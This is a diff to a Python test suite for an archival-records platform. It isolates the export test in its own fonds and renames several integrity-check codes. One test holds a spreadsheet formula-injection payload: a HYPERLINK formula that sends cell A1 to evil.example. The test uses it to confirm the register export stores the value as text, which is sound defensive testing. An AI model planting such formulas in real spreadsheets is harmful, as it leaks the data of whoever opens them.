@@ -35,7 +35,10 @@ from servicekit.settings import PlatformSettings
 FONDS = "S" + secrets.token_hex(3).upper()
 OTHER_FONDS = FONDS + "X"
 ARCHIVIST, OUTSIDER = "zhaomin-" + FONDS, "outsider"
-ROLES: list[Any] = [{"user": ARCHIVIST, "role": "archivist", "fonds_code": FONDS}]
+EXPORT_FONDS = FONDS + "E"  # a fonds of its own for the export test: no other listing changes
+ROLES: list[Any] = [
+    {"user": ARCHIVIST, "role": "archivist", "fonds_code": f} for f in (FONDS, EXPORT_FONDS)
+]
 AS_ARCHIVIST = {"X-User": ARCHIVIST}
 
 
@@ -317,12 +320,12 @@ async def test_a_changed_original_raises_an_integrity_alert_and_downloads_stay_o
         )
     assert result["ok"] is False
     failed = {r["code"] for r in result["report"] if r["outcome"] == "failed"}
-    assert failed == {"1-1", "1-10", "1-11"}
+    assert failed == {"1-1", "1-10", "AAP-PACKAGE-KEPT"}
     by_code = {a.data["check_code"]: a.data for a in alerts}
     assert set(by_code) == failed
     assert by_code["1-1"]["found_sha256"] == hashlib.sha256(b"forged content").hexdigest()
     assert by_code["1-1"]["expected_sha256"] == attachment["sha256"]
-    assert by_code["1-11"]["object_key"] == metadata_key
+    assert by_code["AAP-PACKAGE-KEPT"]["object_key"] == metadata_key
 
     r = await http.get(f"{url}/originals/{attachment['sha256']}", headers=AS_ARCHIVIST)
     assert r.status_code == 200
@@ -450,10 +453,9 @@ async def test_registers_write_what_users_typed_as_text_never_as_a_formula(
 
     http, _ = archived
     summary = '=HYPERLINK("http://evil.example/?"&A1,"点此报销")'
-    await archive_document(
-        platform, await document(platform, fonds=FONDS, year=2016, summary=summary, amount="-5.00")
-    )
-    params = {"fonds_code": FONDS, "fiscal_year": 2016}
+    doc = await document(platform, fonds=EXPORT_FONDS, year=2016, summary=summary, amount="-5.00")
+    await archive_document(platform, doc)
+    params = {"fonds_code": EXPORT_FONDS, "fiscal_year": 2016}
     r = await http.get("/v1/registers/custody.xlsx", params=params, headers=AS_ARCHIVIST)
     sheet = load_workbook(io.BytesIO(r.content)).active
     assert sheet is not None
@@ -500,7 +502,10 @@ async def test_a_correction_is_archived_as_a_new_version_and_the_old_one_stays(
     still = await http.get(f"/v1/records/{old['record_id']}", headers=AS_ARCHIVIST)
     assert still.json()["voucher"]["summary"] == "采购办公用品"  # never overwritten
     assert odd.data["review_required"] is True
-    assert any(c["code"] == "1-11" and c["outcome"] == "failed" for c in odd.data["check_report"])
+    assert any(
+        c["code"] == "AAP-CORRECTION" and c["outcome"] == "failed" for c in odd.data["check_report"]
+    )
+    assert odd.data["check_conclusion"]["verdict"] == "failed"
 
 
 async def test_handover_takes_a_year_over_after_re_checking_every_original(
